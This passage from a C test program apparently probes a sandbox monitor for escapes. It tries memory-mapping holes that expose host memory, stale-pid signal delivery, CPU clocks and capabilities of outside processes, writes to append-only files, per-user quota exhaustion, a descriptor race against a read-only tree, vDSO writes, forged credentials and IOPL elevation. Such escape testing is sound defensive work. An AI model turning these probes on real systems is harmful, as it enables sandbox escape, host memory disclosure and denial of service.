	pthread_mutex_unlock(&mh_mu);
	for (int i = 0; i < MH_SPAWNERS; i++)
		pthread_join(sp[i], NULL);
	if (write(mh_data[1], "0123456789abcdef", 16) != 16)
		exit(2);
	pthread_join(reader, NULL);
	printf("%ld cycles, %d batches, %ld landings, last read %ld\n", cycles, batches, landings, mh_read_ret);
	contained();
}

/* ---- round 16 ---------------------------------------------------------------------- */

/* brk-overcommit-hole: the monitor's brk grows over a range the program owns with one
 * MAP_FIXED, read-write, private (an accountable mapping). Linux 6.1's mmap_region
 * unmaps the old range first and only then checks the commit (`security_vm_enough_
 * memory_mm`); growth larger than RAM and swap fails there (and growth beyond the
 * runtime's memslot budget is undone with munmap by the runtime). Either way the
 * range is a hole in the kernel's map, while the monitor still records it as the
 * program's reservation and never refills it. Every gap above it is filled first, so
 * the next host thread's stack (a new program thread) lands in the hole; the program
 * then mprotects it (its "own" range) and reads the monitor's stack from ring 3. */
#define BH_R (80UL << 30)
/* The second form: the range is the program's read-write memory (NORESERVE, under the
 * runtime's memslot budget), so after the hole the monitor still takes pointers into
 * it as the program's, and Linux reads the host mapping there for write(2). */
#define BH_RW (24UL << 30)
static int bh_pipe[2];
static char bh_maps[1 << 20];

static void *bh_blocked(void *a) {
	char c;
	(void)a;
	if (read(bh_pipe[0], &c, 1) < 0)
		return NULL;
	return NULL;
}

/* Lines of /proc/self/maps (as served) inside [lo, hi): up to max of them. */
static int bh_lines_in(uintptr_t lo, uintptr_t hi, uintptr_t *s, uintptr_t *e, int max) {
	int fd = open("/proc/self/maps", O_RDONLY);
	if (fd < 0)
		return -1;
	size_t n = 0;
	ssize_t r;
	while (n < sizeof bh_maps - 1 && (r = read(fd, bh_maps + n, sizeof bh_maps - 1 - n)) > 0)
		n += r;
	close(fd);
	bh_maps[n] = 0;
	int k = 0;
	for (char *l = bh_maps; l && *l && k < max;) {
		unsigned long a, b;
		if (sscanf(l, "%lx-%lx", &a, &b) == 2 && a < hi && b > lo) {
			s[k] = a < lo ? lo : a;
			e[k] = b > hi ? hi : b;
			k++;
		}
		l = strchr(l, '\n');
		if (l)
			l++;
	}
	return k;
}

static void brk_overcommit_hole(int via_kernel) {
	const size_t R = via_kernel ? BH_RW : BH_R;
	int out[2];
	if (pipe(bh_pipe) || pipe(out))
		exit(2);
	fcntl(out[1], F_SETPIPE_SZ, 1 << 20);
	/* The thread's own stack, made before the hole: nothing of the program's needs
	 * new address space afterwards. */
	size_t ssz = 1 << 20;
	char *stk = mmap(NULL, ssz, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pthread_attr_t at;
	pthread_attr_init(&at);
	pthread_attr_setstack(&at, stk, ssz);
	uintptr_t cur = (uintptr_t)syscall(SYS_brk, 0);
	uintptr_t top = (cur + 4095) & ~4095UL;
	/* stdout's buffer made now (malloc grows the break), not in the range's hole. */
	printf("%s: break at %#lx\n", via_kernel ? "read-write range" : "reserved range", (unsigned long)cur);
	cur = (uintptr_t)syscall(SYS_brk, 0);
	top = (cur + 4095) & ~4095UL;
	char *r = mmap((void *)top, R, via_kernel ? PROT_READ | PROT_WRITE : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0);
	if (r != (char *)top) {
		printf("no %lu GiB reservation after the break at %#lx: %s (setup)\n", R >> 30, (unsigned long)top, strerror(errno));
		contained();
	}
	/* Every gap above the range taken by reservations of the program's, largest first. */
	int placed = 0, below = 0;
	for (int sh = 44; sh >= 18 && placed < 20000;) {
		char *f = mmap(NULL, 1UL << sh, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
		if (f == MAP_FAILED || (uintptr_t)f < top) {
			below += f != MAP_FAILED;
			sh--;
			continue;
		}
		placed++;
	}
	printf("range %#lx-%#lx after the break; %d reservations fill the gaps above it (%d went below)\n", (unsigned long)top, (unsigned long)(top + R), placed, below);
	long b = syscall(SYS_brk, top + R);
	int hole = msync((void *)top, 4096, 0) != 0 && errno == ENOMEM;
	int hole_end = msync((void *)(top + R - 4096), 4096, 0) != 0 && errno == ENOMEM;
	printf("brk(%#lx) = %#lx; the range's first page %s, its last page %s\n", (unsigned long)(top + R), (unsigned long)b, hole ? "is not mapped" : "is mapped",
	       hole_end ? "is not mapped" : "is mapped");
	if (!hole_end) {
		printf("no hole in the program's range\n");
		contained();
	}
	uintptr_t s[64], e[64];
	int before = bh_lines_in(top, top + R, s, e, 64);
	pthread_t t[4];
	int made = 0;
	for (int i = 0; i < 1; i++)
		if (pthread_create(&t[i], &at, bh_blocked, NULL) == 0)
			made++;
	usleep(300 * 1000);
	uintptr_t brk_now = ((uintptr_t)syscall(SYS_brk, 0) + 4095) & ~4095UL;
	int k = bh_lines_in(top, top + R, s, e, 64);
	printf("%d threads made; mappings in the range: %d before, %d after (the program's break ends at %#lx)\n", made, before, k, (unsigned long)brk_now);
	for (int i = 0; i < k; i++) {
		printf("  %#lx-%#lx%s\n", (unsigned long)s[i], (unsigned long)e[i], e[i] <= brk_now ? " (the program's break)" : "");
		fflush(stdout);
		if (e[i] <= brk_now)
			continue;
		if (via_kernel) {
			/* No mprotect: the range is still the program's read-write memory to the
			 * monitor; Linux reads what is there now for write(2). */
			size_t len = e[i] - s[i] > (1 << 20) ? (1 << 20) : e[i] - s[i];
			ssize_t w = write(out[1], (void *)s[i], len);
			if (w <= 0) {
				printf("  write from it: %s\n", strerror(errno));
				continue;
			}
			static uint64_t got[1 << 17];
			ssize_t g = read(out[0], got, (size_t)w);
			for (ssize_t j = 0; j < g / 8; j++)
				if (got[j])
					escaped("a host mapping landed in the hole brk left at %#lx-%#lx (still the program's read-write memory to the monitor); write(2) from it "
					        "gave Linux's copy of host memory: %#lx at offset %#lx",
					        (unsigned long)s[i], (unsigned long)e[i], (unsigned long)got[j], (unsigned long)(j * 8));
			printf("  %zd bytes written from it, all zero\n", w);
			continue;
		}
		if (mprotect((void *)s[i], e[i] - s[i], PROT_READ | PROT_WRITE) != 0) {
			printf("  mprotect: %s\n", strerror(errno));
			continue;
		}
		const uint64_t *q = (const uint64_t *)s[i];
		size_t n = (e[i] - s[i]) / 8;
		for (size_t j = 0; j < n; j++)
			if (q[j])
				escaped("a host mapping landed in the hole brk left at %#lx-%#lx (the program's reserved range); after mprotect, ring 3 read %#lx at %p",
				        (unsigned long)s[i], (unsigned long)e[i], (unsigned long)q[j], (void *)&q[j]);
		printf("  readable, all zero\n");
	}
	if (write(bh_pipe[1], "x", 1) != 1)
		exit(2);
	contained();
}

/* mremap-budget-hole: the runtime answers ENOMEM for an mremap the kernel made (the
 * moved range does not fit the memslot budget: the program holds most of it in a
 * NORESERVE mapping, 62 GiB of the 64 GiB). The monitor's growth step in its staging range "failed", so it
 * moves the pages back with MREMAP_FIXED over the old range: Linux unmaps the old
 * range first, then finds the staging range gone (the kernel moved it) and fails.
 * The old range is a hole the monitor still records as the program's read-write
 * memory; a host thread's stack lands there and write(2) from it reads host memory. */
static void mb_alarm(int sig) {
	(void)sig;
	static const char msg[] = "mremap-budget-hole: no answer in 40 s (the mremap the runtime refuses hangs: not an escape, a hang)\n";
	if (write(1, msg, sizeof msg - 1) < 0)
		_exit(3);
	_exit(3);
}

static void mremap_budget_hole(void) {
	signal(SIGALRM, mb_alarm);
	int out[2];
	if (pipe(bh_pipe) || pipe(out))
		exit(2);
	fcntl(out[1], F_SETPIPE_SZ, 1 << 20);
	size_t ssz = 1 << 20;
	char *stk = mmap(NULL, ssz, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pthread_attr_t at;
	pthread_attr_init(&at);
	pthread_attr_setstack(&at, stk, ssz);
	printf("setting up\n");
	alarm(40);
	double t0 = now();
#define MB_STEP(what) fprintf(stderr, "mremap-budget-hole: %s at %.1f s\n", what, now() - t0)
	size_t bigl = 62UL << 30;
	char *big = mmap(NULL, bigl, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (big == MAP_FAILED) {
		printf("no %zu GiB read-write mapping: %s (setup)\n", bigl >> 30, strerror(errno));
		contained();
	}
	MB_STEP("big mapping made");
	size_t ol = 1 << 20;
	char *old = mmap(NULL, ol, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (old == MAP_FAILED)
		exit(2);
	memset(old, 0x5a, ol);
	int placed = 0, below = 0;
	for (int sh = 44; sh >= 18 && placed < 20000;) {
		char *f = mmap(NULL, 1UL << sh, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
		if (f == MAP_FAILED || f < old) {
			below += f != MAP_FAILED;
			sh--;
			continue;
		}
		placed++;
	}
	printf("%zu GiB held at %p; range %p-%p; %d reservations fill the gaps above it (%d went below)\n", bigl >> 30, (void *)big, (void *)old, (void *)(old + ol), placed, below);
	MB_STEP("gaps filled");
	char *r = mremap(old, ol, 4UL << 30, MREMAP_MAYMOVE);
	MB_STEP("mremap returned");
	int e1 = errno;
	int hole = msync(old, 4096, 0) != 0 && errno == ENOMEM;
	printf("mremap(%p, 1 MiB, 4 GiB, MAYMOVE) = %p (%s); the old range %s\n", (void *)old, (void *)r, r == MAP_FAILED ? strerror(e1) : "moved", hole ? "is not mapped" : "is mapped");
	if (r != MAP_FAILED || !hole) {
		printf("no hole in the program's range\n");
		contained();
	}
	pthread_t t;
	if (pthread_create(&t, &at, bh_blocked, NULL) != 0)
		printf("pthread_create failed\n");
	usleep(300 * 1000);
	MB_STEP("thread made");
	uintptr_t s[64], e[64];
	int k = bh_lines_in((uintptr_t)old, (uintptr_t)(old + ol), s, e, 64);
	printf("mappings in the old range now: %d\n", k);
	for (int i = 0; i < k; i++) {
		printf("  %#lx-%#lx\n", (unsigned long)s[i], (unsigned long)e[i]);
		fflush(stdout);
		ssize_t w = write(out[1], (void *)s[i], e[i] - s[i]);
		if (w <= 0) {
			printf("  write from it: %s\n", strerror(errno));
			continue;
		}
		static uint64_t got[1 << 17];
		ssize_t g = read(out[0], got, (size_t)w);
		for (ssize_t j = 0; j < g / 8; j++)
			if (got[j] && got[j] != 0x5a5a5a5a5a5a5a5aUL)
				escaped("a host mapping landed in the hole a failed mremap left at %#lx-%#lx (still the program's read-write memory to the monitor); write(2) "
				        "from it gave Linux's copy of host memory: %#lx at offset %#lx",
				        (unsigned long)s[i], (unsigned long)e[i], (unsigned long)got[j], (unsigned long)(j * 8));
		printf("  %zd bytes written from it, nothing but the program's\n", w);
	}
	if (write(bh_pipe[1], "x", 1) != 1)
		exit(2);
	contained();
}

/* wait-efault-stale-child: wait4 reaps the child in the kernel, then the monitor's
 * copy-out of the status fails (a sibling made the page inaccessible while wait4
 * blocked): the call answers EFAULT before the monitor forgets the child. Its pid
 * stays a "child" (F_SETOWN's target check) after the kernel freed it; once a process
 * outside takes the pid (the test makes one), SIGIO from a pipe of the program's
 * goes to it. */
static void *we_protect(void *a) {
	usleep(300 * 1000);
	mprotect(a, 4096, PROT_NONE);
	return NULL;
}

static void wait_efault_stale_child(void) {
	char *pg = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pid_t c = fork();
	if (c == 0) {
		usleep(900 * 1000);
		_exit(0);
	}
	pthread_t t;
	pthread_create(&t, NULL, we_protect, pg);
	long r = syscall(SYS_wait4, c, (int *)pg, 0, NULL);
	int e = errno;
	pthread_join(t, NULL);
	fprintf(stderr, "wait4(%d) = %ld (%s)\n", c, r, r < 0 ? strerror(e) : "reaped");
	printf("child %d\n", c);
	fflush(stdout);
	char go[16];
	if (!fgets(go, sizeof go, stdin))
		exit(2);
	int p[2];
	if (pipe(p))
		exit(2);
	int sig = fcntl(p[0], F_SETSIG, SIGTERM);
	int as = fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK);
	int own = fcntl(p[0], F_SETOWN, c);
	int owne = errno;
	ssize_t w = write(p[1], "x", 1);
	printf("F_SETSIG SIGTERM: %d, O_ASYNC: %d, F_SETOWN %d: %d (%s), write: %zd\n", sig, as, c, own, own < 0 ? strerror(owne) : "ok", w);
	char path[64], buf[256] = {0};
	snprintf(path, sizeof path, "/proc/%d/status", c);
	int fd = open(path, O_RDONLY);
	if (fd >= 0) {
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n > 0) {
			char *nl = strchr(buf, '\n');
			if (nl)
				*nl = 0;
			printf("%s: %s\n", path, buf);
		}
	} else {
		printf("%s: %s\n", path, strerror(errno));
	}
	if (own == 0 && w == 1)
		printf("SIGIO sent to pid %d, which the program reaped\n", c);
	contained();
}

/* ---- round 17 -------------------------------------------------------------------- */

/* A process CPU clock id names a pid: MAKE_PROCESS_CPUCLOCK(pid, CPUCLOCK_SCHED). */
static clockid_t process_cpu_clock(pid_t pid) {
	return (clockid_t)((~(unsigned)pid) << 3) | 2;
}

/* The process CPU clock of any process is readable, and a POSIX timer can be made on
 * it (kernel state hung on that process's signal struct), with no permission check
 * in Linux (pid_for_clock). The monitor forwards clock_gettime, clock_getres and
 * timer_create without looking inside the clock id; the same for capget, whose header
 * names a pid. PID is a process outside (the test's); the supervisor (the parent) and
 * init are outside too. Every pid argument the monitor does parse (kill, F_SETOWN,
 * sched_*, getpriority, prlimit64...) must be the sandbox's own. */
static void cpu_clock_outside(const char *pidarg) {
	pid_t targets[3] = {(pid_t)atoi(pidarg), getppid(), 1};
	const char *who[3] = {"the test's process outside", "the supervisor (parent)", "init"};
	char what[4096] = "";
	size_t at = 0;
	for (int i = 0; i < 3; i++) {
		pid_t p = targets[i];
		if (p <= 0 || p == getpid())
			continue;
		clockid_t c = process_cpu_clock(p);
		struct timespec ts = {0, 0}, res = {0, 0};
		long r1 = syscall(SYS_clock_gettime, c, &ts);
		int e1 = errno;
		long r2 = syscall(SYS_clock_getres, c, &res);
		int e2 = errno;
		struct sigevent sev;
		memset(&sev, 0, sizeof sev);
		sev.sigev_notify = SIGEV_NONE;
		int tid = -1;
		long r3 = syscall(SYS_timer_create, c, &sev, &tid);
		int e3 = errno;
		long r4 = -1;
		int e4 = 0;
		if (r3 == 0) {
			struct itimerspec its = {{0, 0}, {1000, 0}};
			r4 = syscall(SYS_timer_settime, tid, 0, &its, NULL);
			e4 = errno;
		}
		struct {
			uint32_t version;
			int pid;
		} hdr = {0x20080522, p};
		uint32_t data[6] = {0};
		long r5 = syscall(SYS_capget, &hdr, data);
		int e5 = errno;
		printf("pid %d (%s): clock_gettime %s (%ld.%09ld s of CPU), clock_getres %s, timer_create %s, timer_settime %s, capget %s (effective %#x %#x)\n", p, who[i], r1 ? strerror(e1) : "ok", (long)ts.tv_sec,
		       (long)ts.tv_nsec, r2 ? strerror(e2) : "ok", r3 ? strerror(e3) : "ok", r3 ? "-" : (r4 ? strerror(e4) : "armed"), r5 ? strerror(e5) : "ok", data[0], data[3]);
		if (!r1 || !r2 || !r3 || !r5)
			at += snprintf(what + at, at < sizeof what ? sizeof what - at : 0, "%s%s pid %d:%s%s%s%s", at ? "; " : "", who[i], p, !r1 ? " its CPU time read" : "", !r2 ? " its clock's existence told" : "",
			               !r3 ? " a timer made on its CPU clock" : "", !r5 ? " its capabilities read" : "");
	}
	if (at)
		escaped("calls naming processes outside the sandbox by a pid inside a clock id or a capget header: %s", what);
	contained();
}

/* Stdin is a file outside the writable trees that a process outside opened for reading
 * and appending (Python's "a+", a shell's `<>` on a log). Writes through it only add
 * (O_APPEND stays: F_SETFL, RWF_NOAPPEND refused; ftruncate and fallocate refused).
 * A MAP_SHARED writable mapping of it writes anywhere in the file: mmap looks only at
 * the descriptor's number. The test checks the file. */
static void inherited_append_mmap(void) {
	int fl = fcntl(0, F_GETFL);
	struct stat st;
	fstat(0, &st);
	size_t len = st.st_size > 0 ? (size_t)st.st_size : 4096;
	char *m = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, 0, 0);
	int e = errno;
	int mp = -1, mpe = 0;
	if (m == MAP_FAILED) {
		/* Read-only first, then made writable. */
		m = mmap(NULL, len, PROT_READ, MAP_SHARED, 0, 0);
		if (m != MAP_FAILED) {
			mp = mprotect(m, len, PROT_READ | PROT_WRITE);
			mpe = errno;
			if (mp) {
				munmap(m, len);
				m = MAP_FAILED;
			}
		}
	}
	printf("stdin flags %#o, size %ld; mmap(MAP_SHARED, PROT_WRITE): %s; mprotect: %s\n", fl, (long)st.st_size, m != MAP_FAILED && mp < 0 ? "ok" : strerror(e), mp < 0 && !mpe ? "-" : (mp ? strerror(mpe) : "ok"));
	if (m != MAP_FAILED) {
		memcpy(m, "OVERWRITTEN BY THE SANDBOX", len < 26 ? len : 26);
		int s = msync(m, len, MS_SYNC);
		printf("wrote over the first bytes through the mapping; msync: %s\n", s ? strerror(errno) : "ok");
		escaped("the appended-to file outside the writable trees (stdin) was written over through a shared writable mapping: what the process outside wrote there is gone");
	}
	contained();
}

/* inotify instances are counted per user for the whole machine
 * (fs.inotify.max_user_instances, 128 by default): root's processes outside share
 * root's count with the sandbox. The attack takes every instance it can, says how
 * many, and holds them until the test (root, outside) has tried to make one. */
static void user_quota_inotify(void) {
	int n = 0, e = 0;
	for (; n < 65536; n++) {
		int f = inotify_init1(IN_CLOEXEC);
		if (f < 0) {
			e = errno;
			break;
		}
	}
	printf("holding %d inotify instances (then: %s)\n", n, strerror(e));
	fflush(stdout);
	alarm(20);
	char b[16];
	ssize_t r = read(0, b, sizeof b);
	(void)r;
	contained();
}

/* Queued real-time signals are charged to the receiving user's count, which root's
 * processes outside share with the sandbox, and refused once that count passes the
 * receiver's RLIMIT_SIGPENDING. The attack blocks a real-time signal, queues it to
 * itself until refused, says how many, and holds them until the test has tried. */
static void user_quota_sigpending(void) {
	sigset_t set;
	sigemptyset(&set);
	sigaddset(&set, SIGRTMIN + 2);
	sigprocmask(SIG_BLOCK, &set, NULL);
	int n = 0, e = 0;
	for (; n < 1 << 22; n++) {
		union sigval v = { .sival_int = n };
		if (sigqueue(getpid(), SIGRTMIN + 2, v) != 0) {
			e = errno;
			break;
		}
	}
	printf("holding %d queued signals (then: %s)\n", n, strerror(e));
	fflush(stdout);
	alarm(20);
	char b[16];
	ssize_t r = read(0, b, sizeof b);
	(void)r;
	contained();
}

/* pipe2 with a read-only result buffer: the kernel makes the two descriptors in the
 * monitor's memory, the copy-out fails, and the monitor closes them by number with no
 * pin and without the exclusive side (io::two_descriptors; accept4's failed copy-out
 * the same way). A sibling closes the number first (its close takes the exclusive
 * side: nothing is pinned yet), another thread's path walk takes the number, pinned;
 * the monitor's close then closes the walk's descriptor. Renamers walk the source's
 * parent (rw/m, whose marker does not exist) and then a destination CU_DEPTH
 * directories deep; dup spinners put the read-only directory on the freed number,
 * so the rename would move the read-only tree's marker out. In the lane the monitor
 * aborts first (Rust's IO-safety check: a walk's descriptor was already closed by
 * another thread's stray close). The test checks the read-only directory and that
 * the monitor survived. */
#define CU_DEPTH 120
static volatile int cu_stop, cu_lo = -1;
static const char *cu_ro, *cu_rw;
static int *cu_bad;

static void *cu_piper(void *a) {
	(void)a;
	while (!cu_stop) {
		syscall(SYS_pipe2, cu_bad, O_CLOEXEC);
	}
	return NULL;
}

static void *cu_closer(void *a) {
	(void)a;
	while (!cu_stop) {
		int lo = cu_lo;
		if (lo >= 0)
			for (int f = lo; f < lo + 6; f++)
				close(f);
	}
	return NULL;
}

static void *cu_walker(void *a) {
	long i = (long)a;
	if (i < 0)
		return NULL;
	char path[512], src[512], dst[4096];
	unsigned long k = 0;
	snprintf(src, sizeof src, "%s/m/marker", cu_rw);
	/* The destination 600 directories deep: one long walk in the kernel (openat2),
	 * while the source's parent, walked first, waits at its low number. */
	size_t dl = (size_t)snprintf(dst, sizeof dst, "%s/", cu_rw);
	for (int h = 0; h < CU_DEPTH; h++)
		dl += (size_t)snprintf(dst + dl, sizeof dst - dl, "a/");
	snprintf(dst + dl, sizeof dst - dl, "marker%ld", i);
	while (!cu_stop) {
		if (i & 1) {
			/* Two walks, then one call on both parents: the first walk's parent
			 * waits through the second walk. */
			if (rename(src, dst) == 0)
				printf("renamed %s (it should not exist)\n", src);
		} else {
			snprintf(path, sizeof path, "%s/a/b/c/d/e/f/g/d%ld-%lu", cu_rw, i, k++ % 64);
			if (mkdir(path, 0755) == 0)
				rmdir(path);
		}
	}
	return NULL;
}

static int cu_rofd = -1;

static void *cu_opener(void *a) {
	(void)a;
	while (!cu_stop) {
		/* dup: the cheapest way to put the read-only directory at the lowest free
		 * number. */
		int f = dup(cu_rofd);
		if (f >= 0 && f > cu_lo + 8)
			close(f);
	}
	return NULL;
}

static void close_unpinned_race(const char *ro, const char *rw, int walk) {
	cu_ro = ro;
	cu_rw = rw;
	char p[512];
	snprintf(p, sizeof p, "%s/m", rw);
	mkdir(p, 0755);
	/* rw/m/marker does not exist: the rename fails (ENOENT) unless its source
	 * parent is the read-only directory, whose marker it then moves out. The walk
	 * of a missing entry holds only the parent (no node descriptor). */
	alarm(60);
	int dfd = open(rw, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	for (int h = 0; h < CU_DEPTH && dfd >= 0; h++) {
		mkdirat(dfd, "a", 0755);
		int nd = openat(dfd, "a", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		close(dfd);
		dfd = nd;
	}
	if (dfd >= 0)
		close(dfd);
	else
		printf("could not make the deep directories: %s\n", strerror(errno));
	cu_bad = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int rofd = open(ro, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	cu_rofd = dup2(rofd, 200);
	close(rofd);
	int probe = open("/", O_RDONLY | O_CLOEXEC);
	cu_lo = probe;
	close(probe);
	printf("lowest free descriptor %d; %d directories deep made\n", cu_lo, CU_DEPTH);
	pthread_t t[8];
	pthread_create(&t[0], NULL, cu_piper, NULL);
	pthread_create(&t[1], NULL, cu_piper, NULL);
	pthread_create(&t[2], NULL, cu_closer, NULL);
	/* Without walkers (a third argument): what the monitor's stray close hits. */
	pthread_create(&t[3], NULL, cu_walker, (void *)(walk ? 1L : -1L));
	pthread_create(&t[4], NULL, cu_walker, (void *)(walk ? 5L : -1L));
	pthread_create(&t[7], NULL, cu_walker, (void *)(walk ? 3L : -1L));
	pthread_create(&t[5], NULL, cu_opener, NULL);
	pthread_create(&t[6], NULL, cu_opener, NULL);
	sleep(15);
	cu_stop = 1;
	for (int i = 0; i < 8; i++)
		pthread_join(t[i], NULL);
	/* Checked after the threads stopped (the closer would close the listing's own
	 * descriptor). */
	int hits = 0, marker = 0;
	DIR *d = opendir(ro);
	if (d) {
		struct dirent *e;
		while ((e = readdir(d))) {
			if (!strcmp(e->d_name, "marker"))
				marker = 1;
			else if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
				hits++, printf("made in the read-only tree: %s\n", e->d_name);
		}
		closedir(d);
		if (!marker)
			hits++, printf("the read-only tree's marker is gone\n");
	}
	printf("changes in the read-only directory: %d\n", hits);
	if (hits)
		escaped("the read-only tree %s changed: the monitor closed the path walk's descriptor with no pin and a read-only directory took its number", ro);
	contained();
}


/* ---- round 18 ---------------------------------------------------------------------- */

#include <sys/auxv.h>

/* The vDSO is the monitor's too (its glibc calls it, in ring 0, on an execve with
 * threads): nothing the program does may change its bytes. Writes through the kernel
 * (read, clock_gettime), through the monitor's copy-outs (pipe, getsockopt), and
 * the memory calls on its range. */
static void vdso_write(void) {
	unsigned char *v = (unsigned char *)getauxval(AT_SYSINFO_EHDR);
	if (!v) {
		printf("no vDSO\n");
		contained();
	}
	unsigned char before[8192];
	memcpy(before, v, sizeof before);
	char log[2048] = "";
	size_t at = 0;
#define NOTE(what, r) at += snprintf(log + at, sizeof log - at, "%s=%ld(%d) ", what, (long)(r), errno)
	NOTE("mprotect", syscall(SYS_mprotect, v, 4096, PROT_READ | PROT_WRITE | PROT_EXEC));
	void *m = mmap(v, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	NOTE("mmap-fixed", m == MAP_FAILED ? -1 : 0);
	int fd = open("/proc/self/stat", O_RDONLY);
	NOTE("read", syscall(SYS_read, fd, v + 64, 32));
	NOTE("pread", syscall(SYS_pread64, fd, v + 64, 32, 0));
	struct iovec iov = {v + 64, 32};
	NOTE("readv", syscall(SYS_readv, fd, &iov, 1));
	NOTE("clock_gettime", syscall(SYS_clock_gettime, CLOCK_MONOTONIC, v + 64));
	NOTE("pipe", syscall(SYS_pipe2, v + 64, 0));
	int sv[2];
	socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
	socklen_t len = 4;
	NOTE("getsockopt", syscall(SYS_getsockopt, sv[0], SOL_SOCKET, SO_TYPE, v + 64, &len));
	NOTE("uname", syscall(SYS_uname, v));
	NOTE("madv-dontneed", syscall(SYS_madvise, v, 4096, MADV_DONTNEED));
	NOTE("madv-popw", syscall(SYS_madvise, v, 4096, 23));
	NOTE("madv-wipe", syscall(SYS_madvise, v, 4096, MADV_WIPEONFORK));
	NOTE("mlock", syscall(SYS_mlock, v, 4096));
	NOTE("msync", syscall(SYS_msync, v, 4096, MS_INVALIDATE));
	NOTE("munmap", syscall(SYS_munmap, v, 4096));
	NOTE("mremap", (long)syscall(SYS_mremap, v, 4096, 8192, MREMAP_MAYMOVE));
	printf("%s\n", log);
	fflush(stdout);
	for (size_t i = 0; i < sizeof before; i++)
		if (v[i] != before[i])
			escaped("the vDSO the monitor calls changed at offset %zu (%02x -> %02x): %s", i, before[i], v[i], log);
	contained();
}

/* SCM_CREDENTIALS naming another process or user: the kernel checks them against
 * the sender's, unless it has CAP_SYS_ADMIN / CAP_SETUID. */
static void scm_creds_forged(void) {
	int sv[2];
	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0)
		escaped("socketpair: %s", strerror(errno));
	struct {
		pid_t pid;
		uid_t uid;
		gid_t gid;
	} tries[3] = {{1, getuid(), getgid()}, {getpid(), 12345, getgid()}, {getpid(), getuid(), 12345}};
	for (int i = 0; i < 3; i++) {
		char cbuf[CMSG_SPACE(12)];
		memset(cbuf, 0, sizeof cbuf);
		struct msghdr mh;
		memset(&mh, 0, sizeof mh);
		char b = 'x';
		struct iovec iov = {&b, 1};
		mh.msg_iov = &iov;
		mh.msg_iovlen = 1;
		mh.msg_control = cbuf;
		mh.msg_controllen = sizeof cbuf;
		struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_CREDENTIALS;
		c->cmsg_len = CMSG_LEN(12);
		memcpy(CMSG_DATA(c), &tries[i], 12);
		long r = sendmsg(sv[0], &mh, 0);
		printf("creds pid %d uid %d gid %d: %ld (%s)\n", tries[i].pid, tries[i].uid, tries[i].gid, r, r < 0 ? strerror(errno) : "ok");
		if (r >= 0)
			escaped("sendmsg carried forged credentials pid %d uid %d gid %d", tries[i].pid, tries[i].uid, tries[i].gid);
	}
	contained();
}

/* A timer whose signal goes to a thread outside the process. */
static void timer_thread_outside(void) {
	pid_t targets[2] = {getppid(), 1};
	for (int i = 0; i < 2; i++) {
		struct sigevent sev;
		memset(&sev, 0, sizeof sev);
		sev.sigev_notify = 4; /* SIGEV_THREAD_ID */
		sev.sigev_signo = SIGUSR1;
		sev._sigev_un._tid = targets[i];
		int id = -1;
		long r = syscall(SYS_timer_create, CLOCK_MONOTONIC, &sev, &id);
		printf("timer_create for tid %d: %ld (%s)\n", targets[i], r, r < 0 ? strerror(errno) : "ok");
		if (r == 0)
			escaped("a timer signals thread %d outside the sandbox", targets[i]);
	}
	contained();
}

/* A signal handler's frame asks for IOPL 3, NT and VIF/VIP/ID/AC: ring 3 must come
 * back with none of the privileged flags (IOPL 3 would let it make port I/O, the
 * runtime's hypercall path, directly). */
static volatile sig_atomic_t iopl_hits;
static void iopl_handler(int sig, siginfo_t *si, void *ucv) {
	(void)sig;
	(void)si;
	ucontext_t *uc = ucv;
	uc->uc_mcontext.gregs[REG_EFL] |= 0x3000 | 0x4000 | 0x80000 | 0x100000 | 0x200000;
	uc->uc_mcontext.gregs[REG_EFL] &= ~0x200ul;
	iopl_hits++;
}
static void sigreturn_iopl(void) {
	struct sigaction sa;
	memset(&sa, 0, sizeof sa);
	sa.sa_sigaction = iopl_handler;
	sa.sa_flags = SA_SIGINFO;
	sigaction(SIGUSR1, &sa, NULL);
	raise(SIGUSR1);
	unsigned long fl;
	__asm__ volatile("pushfq; popq %0" : "=r"(fl));
	printf("handler ran %d, rflags after sigreturn %#lx\n", (int)iopl_hits, fl);
	if (fl & 0x3000)
		escaped("ring 3 runs with IOPL %lu (rflags %#lx)", (fl >> 12) & 3, fl);
	if (!(fl & 0x200))
		escaped("ring 3 runs with interrupts off (rflags %#lx)", fl);
	if (fl & 0x4000)
		escaped("ring 3 runs with NT set (rflags %#lx)", fl);
	contained();
}


/* ---- round 19 ------------------------------------------------------------------------ */

static long read_long(const char *path) {
	FILE *f = fopen(path, "r");
	long v = -1;
	if (f) {
		if (fscanf(f, "%ld", &v) != 1)
			v = -1;
		fclose(f);
	}
	return v;
}

/* epoll watches are counted per user for the whole machine (user_struct's
 * epoll_watches, fs.epoll.max_user_watches): not per user namespace, and no
 * capability exempts root. Each (epoll, descriptor number) pair is one watch, so a
 * process with L descriptors holds about (L/2)^2; children (fresh descriptor tables)
 * hold more. The attack fills until ENOSPC or its time budget, says how many it
 * holds, and holds them until the test (root, outside) has tried to add one. */
static int epoll_fill(int budget_s, double t0, long *held, int *err) {
	struct rlimit rl;
